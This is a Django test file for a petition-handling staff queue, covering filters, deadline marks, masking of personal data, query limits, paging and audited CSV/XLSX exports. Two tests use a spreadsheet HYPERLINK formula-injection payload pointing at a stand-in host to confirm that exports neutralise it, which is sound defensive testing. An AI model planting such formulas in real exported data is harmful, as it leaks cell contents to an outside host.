"""The queue: filters, clock marks, counts, a bounded number of queries, and the export."""

from __future__ import annotations

import csv
import datetime as dt
import io

from django.urls import reverse
from django.utils import timezone

from eqiao.core.models import AuditEntry
from eqiao.intake.models import Channel, Kind
from eqiao.intake.tests.factories import make_petition
from eqiao.workbench.tests.conftest import submit

QUEUE = reverse("workbench:queue")
EXPORT = reverse("workbench:queue_export")


def test_queue_marks_overdue_and_due_soon_in_words_not_only_colour(as_staff, office_tree):
    today = timezone.localdate()
    make_petition(office_tree.guanxian, accepted_on=today - dt.timedelta(days=30), title="超期件")
    make_petition(
        office_tree.guanxian,
        accepted_on=today,
        title="新件",
        procedural_reply_due=today + dt.timedelta(days=1),
    )
    page = as_staff(office_tree.guanxian_head).get(QUEUE).content.decode()
    assert 'class="overdue"' in page and "已超期" in page
    assert 'class="due-soon"' in page and "即将到期" in page
    page = as_staff(office_tree.guanxian_head).get(QUEUE + "?due=overdue").content.decode()
    assert "超期件" in page and "新件" not in page


def test_filters_and_text_search(as_staff, office_tree):
    submit(office_tree.guanxian, title="土地补偿款问题", kind=Kind.COMPLAINT)
    submit(
        office_tree.qingshui,
        title="法律咨询：离婚财产",
        kind=Kind.CONSULTATION,
        channel=Channel.HOTLINE,
        content="离婚时共同财产怎么分割？",
    )
    client = as_staff(office_tree.guanxian_head)
    page = client.get(QUEUE + "?kind=consultation").content.decode()
    assert "离婚财产" in page and "土地补偿款" not in page
    page = client.get(QUEUE + "?q=补偿款").content.decode()
    assert "土地补偿款" in page and "离婚财产" not in page
    page = client.get(QUEUE + f"?office={office_tree.qingshui.pk}").content.decode()
    assert "离婚财产" in page and "土地补偿款" not in page
    page = client.get(QUEUE + "?channel=hotline").content.decode()
    assert "离婚财产" in page and "土地补偿款" not in page


def test_personal_data_is_masked_in_the_queue(as_staff, office_tree):
    submit(office_tree.guanxian)
    page = as_staff(office_tree.guanxian_head).get(QUEUE).content.decode()
    assert "王**" in page and "138****5678" in page
    assert "王建国" not in page and "13812345678" not in page


def test_htmx_filter_returns_only_the_table(as_staff, office_tree):
    submit(office_tree.guanxian, title="某件")
    response = as_staff(office_tree.guanxian_head).get(
        QUEUE + "?status=open", HTTP_HX_REQUEST="true", HTTP_HX_TARGET="queue-results"
    )
    page = response.content.decode()
    assert "某件" in page and "<html" not in page


def test_counts_at_the_top(as_staff, office_tree):
    submit(office_tree.guanxian)
    submit(office_tree.qingshui)
    page = as_staff(office_tree.guanxian_head).get(QUEUE).content.decode()
    assert "未办结<strong>2</strong>" in page


def test_queue_query_count_does_not_grow_with_the_rows(
    as_staff, office_tree, django_assert_max_num_queries
):
    for i in range(3):
        make_petition(
            office_tree.qingshui, title=f"件{i}", assignee=office_tree.qingshui_prosecutor
        )
    client = as_staff(office_tree.guanxian_head)
    client.get(QUEUE)  # warm the session
    with django_assert_max_num_queries(12):
        client.get(QUEUE)
    for i in range(20):
        make_petition(
            office_tree.guanxian, title=f"更多{i}", assignee=office_tree.guanxian_prosecutor
        )
    with django_assert_max_num_queries(12):
        assert client.get(QUEUE).status_code == 200


def test_paging(as_staff, office_tree):
    for i in range(30):
        make_petition(office_tree.guanxian, title=f"第{i}件")
    client = as_staff(office_tree.guanxian_head)
    assert "下一页" in client.get(QUEUE).content.decode()
    assert "第 2 / 2 页" in client.get(QUEUE + "?status=open&page=2").content.decode()


def test_csv_export_has_a_bom_masked_data_and_is_audited(as_staff, office_tree):
    petition = submit(office_tree.guanxian, title="导出测试件")
    submit(office_tree.guanxian, title="已被筛掉", kind=Kind.APPEAL)
    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?kind=complaint&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][0] == "受理编号"
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["受理编号"] == petition.tracking_number
    assert row["标题"] == "导出测试件"
    assert row["姓名"] == "王**" and row["手机号"] == "138****5678"
    assert "13812345678" not in response.content.decode("utf-8-sig")
    entry = AuditEntry.objects.get(action="petition_export")
    assert entry.actor == office_tree.guanxian_head.user
    assert entry.detail["rows"] == 1 and entry.detail["filters"]["kind"] == "complaint"


def test_xlsx_export(as_staff, office_tree):
    import openpyxl

    petition = submit(office_tree.guanxian)
    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0][0] == "受理编号" and values[1][0] == petition.tracking_number


def test_unknown_export_format_is_refused_kindly(as_staff, office_tree):
    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=pdf")
    assert response.status_code == 302
    assert not AuditEntry.objects.filter(action="petition_export").exists()


FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'


def test_a_formula_title_is_exported_as_text_to_csv(as_staff, office_tree):
    submit(office_tree.guanxian, title=FORMULA)
    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=csv")
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert rows[0]["标题"] == "'" + FORMULA


def test_a_formula_title_is_exported_as_text_to_xlsx(as_staff, office_tree):
    import openpyxl

    submit(office_tree.guanxian, title=FORMULA)
    response = as_staff(office_tree.guanxian_head).get(EXPORT + "?format=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content), data_only=False).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    title = sheet.cell(row=2, column=header.index("标题") + 1)
    assert title.data_type == "s" and title.value == "'" + FORMULA
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
